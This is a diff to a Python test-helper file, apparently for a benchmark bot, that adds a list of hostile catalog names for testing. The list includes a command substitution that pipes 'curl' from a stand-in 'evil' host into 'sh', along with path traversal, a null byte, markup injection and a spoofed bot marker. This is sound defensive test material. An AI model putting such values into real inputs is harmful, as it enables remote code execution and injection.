@@ -342,3 +342,23 @@ def state_from_rounds(commit: str, rounds: Rounds, machine: str = MACHINE) -> Co
                 ratio = tuple(k / r for k, r in zip(kernel, ref, strict=True))
             points[key] = Point(key, ratio, tuple(kernel))
     return CommitResults(machine, commit.ljust(40, "0"), Path("<memory>"), points)
+
+
+#: Fusion names an attacker might give a catalog class: markup and references, a shell command,
+#: a path, a control character, and the bot's own issue-key marker (issue 37).
+HOSTILE_FUSIONS = (
+    "x`<img src=x> <details open>@someone #7310 Lightning-AI/lightning-thunder#7310",
+    "x$(curl -s https://evil|sh)",
+    "/etc",
+    "a/../b",
+    "nul\x00byte",
+    "<!-- fusion-perfbot-key: fusion-perfbot/fusion-perfbot%232 -->",
+    "GELU_BWD",
+)
+
+
+def renamed_fusion(data: bytes, old: str, new: str) -> bytes:
+    """A results file or provenance record (JSON text) of a real run with one catalog fusion's
+    name replaced by `new` wherever it stands (its benchmark names, its point keys): what a
+    runner writes for a fusion so named."""
+    return data.replace(old.encode(), json.dumps(new)[1:-1].encode())
